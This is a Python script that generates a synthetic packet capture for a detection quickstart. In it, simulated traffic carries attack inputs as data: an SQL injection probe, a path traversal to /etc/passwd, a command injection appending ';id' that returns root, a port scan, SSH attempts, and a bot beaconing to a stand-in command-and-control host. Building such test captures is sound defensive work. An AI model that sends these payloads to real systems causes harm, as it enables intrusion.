#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Makes quickstart.pcap: a morning in a small network, with a few things worth an alert.

10.1.1.20 is a user's machine, 10.1.1.66 one that has been broken into, 10.1.1.5 the local name
server and web server, 203.0.113.7 and 198.51.100.23 are somewhere in the world."""
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path.insert(0, os.path.dirname(HERE))
from pcapgen import (ACK, RST, SYN, Capture, TcpFlow, dns_answer, dns_query,  # noqa: E402
                     http_request, http_response)

USER, BOT, SERVER = "10.1.1.20", "10.1.1.66", "10.1.1.5"
SITE, EVIL = "203.0.113.7", "198.51.100.23"


def lookup(cap, client, port, ident, name, addresses, code=0):
    cap.udp(client, port, SERVER, 53, dns_query(ident, name))
    cap.udp(SERVER, 53, client, port, dns_answer(ident, name, addresses, code))


def fetch(cap, client, port, server, request, response, server_port=80):
    flow = TcpFlow(cap, client, port, server, server_port)
    flow.open()
    flow.to_server(request)
    flow.to_client(response)
    flow.close()


def ordinary(cap):
    lookup(cap, USER, 41000, 1, "www.example.org", [SITE])
    page = b"<html><body><h1>Good morning</h1></body></html>"
    fetch(cap, USER, 42000, SITE, http_request("www.example.org", "/"), http_response(page))
    cap.ping(USER, SERVER)
    cap.ping(SERVER, USER, reply=True)


def attack_on_the_web_server(cap):
    """A scanner with a telling user agent, then an injection that gives away its success."""
    agent = "sqlmap/1.7 (https://sqlmap.org)"
    fetch(cap, EVIL, 50000, SERVER,
          http_request("intranet.example", "/item.php?id=1%20UNION%20SELECT%20user", agent),
          http_response(b"error in your SQL syntax", "500 Internal Server Error"))
    fetch(cap, EVIL, 50001, SERVER,
          http_request("intranet.example", "/cgi-bin/../../../../etc/passwd", "curl/7.88.1"),
          http_response(b"404", "404 Not Found"))
    fetch(cap, EVIL, 50002, SERVER,
          http_request("intranet.example", "/ping.php?host=127.0.0.1;id", "curl/7.88.1"),
          http_response(b"uid=0(root) gid=0(root) groups=0(root)\n", kind="text/plain"))


def bot_calls_home(cap):
    for n in range(4):
        lookup(cap, BOT, 43000 + n, 10 + n, f"x{n}q7k2vz{n}9.example", [], code=3)
    lookup(cap, BOT, 43010, 20, "update.malware-c2.example", [EVIL])
    fetch(cap, BOT, 44000, EVIL,
          http_request("update.malware-c2.example", "/gate.php", "EvilBot/2.0", "POST",
                       b"id=66&os=windows&pass=hunter2"),
          http_response(b"MZ\x90\0" + bytes(60) + b"This program cannot be run in DOS mode",
                        kind="application/octet-stream"))


def port_scan(cap):
    for port in range(20, 100):
        cap.tcp(EVIL, 51000 + port, SERVER, port, 1, 0, SYN)
        if port != 80:
            cap.tcp(SERVER, port, EVIL, 51000 + port, 0, 2, RST | ACK)


def ssh_guessing(cap):
    for n in range(6):
        flow = TcpFlow(cap, EVIL, 52000 + n, SERVER, 22)
        flow.open()
        flow.to_client(b"SSH-2.0-OpenSSH_9.2p1\r\n")
        flow.to_server(b"SSH-2.0-libssh_0.9.6\r\n")
        flow.close()
        cap.wait(2)


def main():
    cap = Capture()
    for scene in (ordinary, attack_on_the_web_server, bot_calls_home, port_scan, ssh_guessing,
                  ordinary):
        scene(cap)
        cap.wait(5)
    cap.write(os.path.join(HERE, "quickstart.pcap"))


main()
